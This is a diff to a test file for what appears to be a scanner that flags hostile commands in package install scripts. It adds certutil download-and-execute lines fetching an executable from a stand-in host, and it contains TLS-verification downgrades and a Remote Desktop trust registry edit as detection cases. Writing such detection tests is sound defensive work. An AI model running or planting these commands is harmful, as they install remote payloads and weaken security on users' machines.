@@ -136,6 +136,11 @@ def rules(art: Artifact) -> set[str]:
     ("npm config set strict-ssl false --location=user", "install-script/tls-downgrade"),
     ("git config --global http.sslVerify false", "install-script/tls-downgrade"),
     ("printf 'export NODE_TLS_REJECT_UNAUTHORIZED=0\\n' >> \"$HOME/.bashrc\"", "install-script/tls-downgrade"),
+    # blind set 51: certutil's download saved to a Windows path (or a bare name) and started by that path
+    ("certutil -urlcache -split -f http://bots.example/s/msupd.exe C:\\Users\\Public\\msupd.exe & C:\\Users\\Public\\msupd.exe",
+     "install-script/download-execute"),
+    ("certutil -urlcache -split -f https://bots.example/s/msupd.exe msupd.exe && msupd.exe -k key",
+     "install-script/download-execute"),
     # blind set 51: Remote Desktop told to trust a server with the user's devices before a rogue .rdp file is opened
     ("reg add \"HKCU\\Software\\Microsoft\\Terminal Server Client\\LocalDevices\" /v avd.example /t REG_DWORD /d 0x4d /f",
      "install-script/rdp-trust"),
@@ -302,6 +307,11 @@ def test_reading_or_hardening_credential_protection_is_no_downgrade(command):
 
 
 
+
+
+def test_a_certutil_download_that_is_not_run_is_no_dropper():
+    found = {f.rule for f in findings(artifact({"postinstall": "certutil -urlcache -split -f https://x.example/tool.exe tool.exe && type notes.txt"}))}
+    assert "install-script/download-execute" not in found
 
 
 def test_reading_remote_desktop_settings_is_no_trust_override():
